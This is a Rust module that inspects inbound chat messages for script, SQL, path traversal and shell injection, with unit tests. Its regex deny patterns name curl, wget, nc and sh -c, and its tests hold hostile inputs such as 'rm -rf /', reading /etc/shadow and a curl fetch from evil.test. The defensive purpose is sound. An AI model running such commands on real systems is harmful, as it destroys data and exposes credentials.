//! Inbound payload inspection.
//!
//! # Responsibilities
//! - Enforce maximum payload length
//! - Reject NUL and control characters as malformed
//! - Detect script, SQL, path traversal and shell injection
//! - Produce a sanitized copy (tags and control characters stripped, trimmed)
//!
//! # Design Decisions
//! - Patterns compiled once into static tables
//! - Every finding is reported, not just the first
//! - The sanitized copy is always produced, even for rejected input

use std::sync::{Arc, LazyLock};
use arc_swap::ArcSwap;
use regex::Regex;
use serde::Serialize;

use crate::config::SanitizerConfig;

/// What an inspection found.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum InputFinding {
    Oversized,
    Malformed,
    ScriptInjection,
    SqlInjection,
    PathTraversal,
    ShellInjection,
}

impl InputFinding {
    /// Findings that indicate hostile intent rather than bad formatting.
    pub fn is_malicious(&self) -> bool {
        !matches!(self, InputFinding::Oversized | InputFinding::Malformed)
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            InputFinding::Oversized => "oversized",
            InputFinding::Malformed => "malformed",
            InputFinding::ScriptInjection => "script_injection",
            InputFinding::SqlInjection => "sql_injection",
            InputFinding::PathTraversal => "path_traversal",
            InputFinding::ShellInjection => "shell_injection",
        }
    }
}

struct InjectionPattern {
    finding: InputFinding,
    regex: Regex,
}

static INJECTION_PATTERNS: LazyLock<Vec<InjectionPattern>> = LazyLock::new(|| {
    [
        (
            InputFinding::ScriptInjection,
            concat!(
                r"(?i)<\s*/?\s*(script|iframe|object|embed)\b",
                r"|javascript\s*:",
                r"|\bon(load|error|click|mouseover)\s*=",
            ),
        ),
        (
            InputFinding::SqlInjection,
            concat!(
                r"(?i)\bunion\s+(all\s+)?select\b",
                r"|\b(drop|truncate|alter)\s+table\b",
                r"|;\s*(drop|delete|insert|update)\s+(table|from|into|\w+\s+set)\b",
                r"|'\s*(or|and)\s+'?\w+'?\s*=\s*'?\w+",
                r"|/\*.*\*/",
            ),
        ),
        (
            InputFinding::PathTraversal,
            r"(?i)\.\./|\.\.\\|%2e%2e(%2f|%5c|/)",
        ),
        (
            InputFinding::ShellInjection,
            concat!(
                r"(?i)(;|&&|\|\|?)\s*(rm\s+-[a-z]*[rf]|(curl|wget)\s+(-|https?://)",
                r"|(ba)?sh\s+-c\b|nc\s+-|chmod\s+[0-7+]|cat\s+/)",
                r"|\$\([^)]*\)",
            ),
        ),
    ]
    .into_iter()
    .filter_map(|(finding, pattern)| match Regex::new(pattern) {
        Ok(regex) => Some(InjectionPattern { finding, regex }),
        Err(e) => {
            tracing::error!(finding = finding.as_str(), error = %e, "Invalid injection pattern");
            None
        }
    })
    .collect()
});

static MARKUP_TAG: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"<[^>]*>").ok());

/// Outcome of [`Sanitizer::security_check`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct SecurityCheck {
    pub is_secure: bool,
    pub sanitized: String,
    pub warnings: Vec<String>,
    pub findings: Vec<InputFinding>,
}

impl SecurityCheck {
    pub fn is_malicious(&self) -> bool {
        self.findings.iter().any(InputFinding::is_malicious)
    }
}

fn is_disallowed_control(c: char) -> bool {
    c.is_control() && !matches!(c, '\n' | '\r' | '\t')
}

fn warning_for(finding: InputFinding, max_len: usize) -> String {
    match finding {
        InputFinding::Oversized => format!("payload exceeds {} characters", max_len),
        InputFinding::Malformed => "payload contains control characters".to_string(),
        InputFinding::ScriptInjection => "possible script injection".to_string(),
        InputFinding::SqlInjection => "possible SQL injection".to_string(),
        InputFinding::PathTraversal => "possible path traversal".to_string(),
        InputFinding::ShellInjection => "possible shell command injection".to_string(),
    }
}

/// Strip control characters and markup tags, bound the length, trim.
pub fn sanitize(raw: &str, max_len: usize) -> String {
    let cleaned: String = raw.chars().filter(|c| !is_disallowed_control(*c)).collect();
    let stripped = match MARKUP_TAG.as_ref() {
        Some(tag) => tag.replace_all(&cleaned, "").into_owned(),
        None => cleaned.replace(['<', '>'], ""),
    };
    let bounded: String = stripped.chars().take(max_len).collect();
    bounded.trim().to_string()
}

#[derive(Debug)]
pub struct Sanitizer {
    config: ArcSwap<SanitizerConfig>,
}

impl Sanitizer {
    pub fn new(config: SanitizerConfig) -> Self {
        Self {
            config: ArcSwap::from_pointee(config),
        }
    }

    pub fn reload(&self, config: SanitizerConfig) {
        self.config.store(Arc::new(config));
    }

    /// Whether a failed check should also block the sender.
    pub fn blocks_on_violation(&self) -> bool {
        self.config.load().block_on_violation
    }

    /// Inspect a raw payload.
    pub fn security_check(&self, raw: &str) -> SecurityCheck {
        let max_len = self.config.load().max_payload_len;
        let mut findings = Vec::new();

        if raw.chars().count() > max_len {
            findings.push(InputFinding::Oversized);
        }
        if raw.chars().any(is_disallowed_control) {
            findings.push(InputFinding::Malformed);
        }
        for pattern in INJECTION_PATTERNS.iter() {
            if pattern.regex.is_match(raw) {
                findings.push(pattern.finding);
            }
        }

        let warnings = findings
            .iter()
            .map(|f| warning_for(*f, max_len))
            .collect();

        SecurityCheck {
            is_secure: findings.is_empty(),
            sanitized: sanitize(raw, max_len),
            warnings,
            findings,
        }
    }
}

impl Default for Sanitizer {
    fn default() -> Self {
        Self::new(SanitizerConfig::default())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(raw: &str) -> SecurityCheck {
        Sanitizer::default().security_check(raw)
    }

    #[test]
    fn test_plain_messages_pass() {
        for raw in [
            "mark me present for Physics",
            "I can't attend Chemistry today, sorry",
            "/attendance 2024-03-01",
            "what's my percentage in maths?",
            "I was sick yesterday; update my attendance please",
            "missed the lab; delete that absence if you can",
            "tired today; cat kept me up all night",
            "class ran late && sh... never mind",
            "we will curl up and study; bash the exam tomorrow",
        ] {
            let result = check(raw);
            assert!(result.is_secure, "{} flagged: {:?}", raw, result.warnings);
            assert_eq!(result.sanitized, raw);
        }
    }

    #[test]
    fn test_script_injection() {
        let result = check("hello <script>alert(1)</script>");
        assert!(!result.is_secure);
        assert!(result.findings.contains(&InputFinding::ScriptInjection));
        assert_eq!(result.sanitized, "hello alert(1)");
        assert!(result.is_malicious());
    }

    #[test]
    fn test_sql_injection() {
        let result = check("physics' OR '1'='1");
        assert!(result.findings.contains(&InputFinding::SqlInjection));

        let result = check("x; DROP TABLE users");
        assert!(result.findings.contains(&InputFinding::SqlInjection));

        for raw in [
            "x; delete from attendance",
            "x; update students set present = 1",
            "x; insert into marks values (100)",
        ] {
            assert!(check(raw).findings.contains(&InputFinding::SqlInjection), "{}", raw);
        }
    }

    #[test]
    fn test_path_traversal_and_shell() {
        assert!(check("../../etc/passwd")
            .findings
            .contains(&InputFinding::PathTraversal));
        assert!(check("subject; rm -rf /")
            .findings
            .contains(&InputFinding::ShellInjection));
        assert!(check("$(whoami)")
            .findings
            .contains(&InputFinding::ShellInjection));
        for raw in [
            "x && curl http://evil.test/x.sh",
            "x; sh -c id",
            "x | cat /etc/shadow",
        ] {
            assert!(check(raw).findings.contains(&InputFinding::ShellInjection), "{}", raw);
        }
    }

    #[test]
    fn test_nul_is_malformed_not_malicious() {
        let result = check("hi\0there");
        assert!(!result.is_secure);
        assert_eq!(result.findings, vec![InputFinding::Malformed]);
        assert!(!result.is_malicious());
        assert_eq!(result.sanitized, "hithere");
    }

    #[test]
    fn test_oversized_payload() {
        let sanitizer = Sanitizer::new(SanitizerConfig {
            max_payload_len: 8,
            block_on_violation: false,
        });
        let result = sanitizer.security_check("  abcdefghijkl");
        assert_eq!(result.findings, vec![InputFinding::Oversized]);
        assert_eq!(result.warnings, vec!["payload exceeds 8 characters".to_string()]);
        assert_eq!(result.sanitized, "abcdef");
        assert!(!sanitizer.blocks_on_violation());
    }

    #[test]
    fn test_multiple_findings_reported() {
        let result = check("<script>x</script> UNION SELECT * FROM t");
        assert!(result.findings.contains(&InputFinding::ScriptInjection));
        assert!(result.findings.contains(&InputFinding::SqlInjection));
        assert_eq!(result.warnings.len(), result.findings.len());
    }
}
